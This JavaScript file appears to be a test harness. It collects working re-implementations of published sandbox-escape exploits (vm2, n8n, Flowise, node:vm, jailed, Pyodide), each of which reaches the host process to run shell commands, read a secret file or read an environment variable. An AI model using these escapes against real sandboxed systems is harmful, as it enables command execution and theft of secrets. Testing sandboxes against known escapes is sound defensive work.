// biome-ignore-all lint/correctness/noUnusedVariables: attempts.js calls it.

// Published ways out of other sandboxes, each after its advisory, written anew for a tool. There the prize
// was the host's `process`; here that is the tool's own, and the prize is what it leads to.
function published({ secret_file: secret, secret_variable: variable }) {
  const prize = (host) => {
    const load = host.mainModule?.require ?? host.getBuiltinModule;
    return load('node:child_process').execSync(`cat ${secret}`).toString();
  };
  const returnProcess = 'return process';
  return {
    'vm2: CVE-2019-10761, a stack that runs out': () => {
      const deep = (n) => {
        try {
          return deep(n + 1);
        } catch (error) {
          return error;
        }
      };
      return prize(deep(0).constructor.constructor(returnProcess)());
    },
    'vm2: CVE-2021-23449, a failed import': async () => {
      const failure = import('./missing');
      failure.catch(() => {});
      return prize(failure.constructor.constructor(returnProcess)());
    },
    'vm2: CVE-2022-36067, another Error': () =>
      withPrepared((_, frames) =>
        prize((frames.find((frame) => frame.getThis()?.process)?.getThis() ?? globalThis).process),
      ),
    'vm2: CVE-2023-29017, an unhandled rejection’s stack': () =>
      withPrepared((_, frames) => prize(frames.constructor.constructor(returnProcess)())),
    'vm2: CVE-2023-30547, a proxy’s exception': () => {
      const thrown = new Proxy(
        {},
        {
          getPrototypeOf() {
            throw Object.assign(new Error(), { host: () => prize.constructor(returnProcess)() });
          },
        },
      );
      try {
        Object.getPrototypeOf(thrown);
      } catch ({ host }) {
        return prize(host());
      }
    },
    'vm2: CVE-2023-32314, a proxy as function': () => {
      const error = new Error();
      error.name = {
        toString: new Proxy(() => '', {
          apply: (_, __, args) => prize(args.constructor.constructor(returnProcess)()),
        }),
      };
      return error.name.toString();
    },
    'vm2: CVE-2023-37466, a promise’s species': async () => {
      const promise = (async () => {
        const error = new Error();
        error.name = Symbol();
        return error.stack;
      })();
      let found;
      promise.constructor = {
        [Symbol.species]: class {
          constructor(executor) {
            executor(
              (value) => value,
              (error) => {
                found = error;
              },
            );
          }
        },
      };
      void promise.then();
      await new Promise((resolve) => setTimeout(resolve, 5));
      return prize((found ?? promise).constructor.constructor?.(returnProcess)() ?? process);
    },
    'vm2: CVE-2023-37903, a custom inspection': () => {
      let found;
      require('node:util').inspect({
        [Symbol.for('nodejs.util.inspect.custom')]: (_, __, inspect) => {
          found = prize(inspect.constructor(returnProcess)());
        },
      });
      return found;
    },
    'vm2: arrays’ species': () => {
      const found = [];
      found.constructor = { [Symbol.species]: () => found };
      return prize(found.map.constructor(returnProcess)());
    },
    'n8n: CVE-2025-68613, an expression’s this': () =>
      prize(
        function () {
          return this.process ?? this.constructor.constructor(returnProcess)();
        }.call(globalThis),
      ),
    'n8n: CVE-2025-68613, the environment': () => {
      const found = (() => {}).constructor(`${returnProcess}.env`)()[variable];
      if (found === undefined) throw new Error('not there');
      return found;
    },
    'Flowise: CVE-2025-59528, a Function of the configuration': () =>
      prize(Function(`return { command: process }`)().command),
    'Flowise: CVE-2025-55346, a Function of the input': () =>
      Function(
        'read',
        'file',
        `${returnProcess}.getBuiltinModule('node:fs').readFileSync(file, 'utf8')`,
      )(null, secret),
    'Flowise: CVE-2026-40933, a server to be started': () => {
      const { error, stdout } = require('node:child_process').spawnSync('npx', ['--version']);
      if (error) throw error;
      return String(stdout);
    },
    'node:vm: another context': () =>
      prize(
        require('node:vm').runInNewContext(`this.constructor.constructor('${returnProcess}')()`),
      ),
    'jailed: a timer’s failure': () => {
      try {
        setTimeout().ref();
      } catch (error) {
        return prize(error.constructor.constructor(returnProcess)());
      }
    },
    'Pyodide: loading a file of the host': async () => {
      const { readFile } = await import('node:fs/promises');
      return (await readFile(secret)).toString();
    },
  };
}

function withPrepared(prepare) {
  const before = Error.prepareStackTrace;
  Error.prepareStackTrace = prepare;
  try {
    return new Error().stack;
  } finally {
    Error.prepareStackTrace = before;
  }
}
